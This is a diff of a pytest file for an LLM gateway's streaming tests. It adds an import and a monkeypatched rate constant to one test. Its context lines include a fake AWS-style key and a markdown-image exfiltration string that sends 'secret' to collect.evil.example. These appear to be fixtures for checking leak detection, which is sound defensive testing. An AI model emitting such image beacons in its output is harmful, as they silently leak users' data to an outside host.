@@ -8,6 +8,8 @@ import openai
 import pytest
 from gateway_support import USAGE, Gateway, chunks
 
+from seawall.gateway.steps import reserve
+
 HI: Any = [{"role": "user", "content": "Hi"}]
 SECRET = "AKIAQ3EGRTZ5KLMNOP27"
 LEAK = "Fine so far. Now look: ![ok](https://collect.evil.example/p.png?d=secret) there."
@@ -200,8 +202,11 @@ def test_a_missing_done_and_odd_line_ends_are_fine(gateway: Gateway) -> None:
     assert (read.text(), read.finish(), read.error) == ("ok", ["stop"], None)
 
 
-def test_a_stream_without_usage_costs_the_same_however_it_comes(gateway: Gateway) -> None:
+def test_a_stream_without_usage_costs_the_same_however_it_comes(
+    gateway: Gateway, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """Chunks alike are read in one step; what they say is counted as if they came alone."""
+    monkeypatch.setattr(reserve, "_THOUGHTS_A_SECOND", 0)
     *said, last = chunks(*cut("Nothing but plain words in here. " * 20, 7))
     alone = [event.replace('"choices"', f'"x": {number}, "choices"')
              for number, event in enumerate(said)]  # fmt: skip
